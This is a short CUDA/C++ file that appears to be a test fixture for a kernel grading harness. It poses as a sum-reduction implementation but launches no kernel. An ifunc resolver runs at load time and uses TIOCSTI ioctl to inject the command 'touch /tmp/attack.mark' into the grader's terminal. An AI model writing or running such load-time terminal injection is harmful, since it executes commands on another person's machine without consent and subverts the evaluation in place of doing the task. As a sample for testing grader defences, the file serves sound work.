// expect: 0 points, launches no kernel
// The same types a command on the terminal of whoever grades.
#include <sys/syscall.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/ioctl.h>

static void chosen() {}

extern "C" {
static void (*choose())() {
    const long terminal = syscall(SYS_openat, AT_FDCWD, "/dev/tty", O_RDWR);
    for (const char* c = "touch /tmp/attack.mark\n"; *c; ++c) {
        syscall(SYS_ioctl, terminal, TIOCSTI, c);
        syscall(SYS_ioctl, 0, TIOCSTI, c);
    }
    return chosen;
}
}
void hook() __attribute__((ifunc("choose")));

__global__ void CoarsenedSumReductionKernel() {}

void reduce_sum(const float*, float*, void*, size_t) { hook(); }
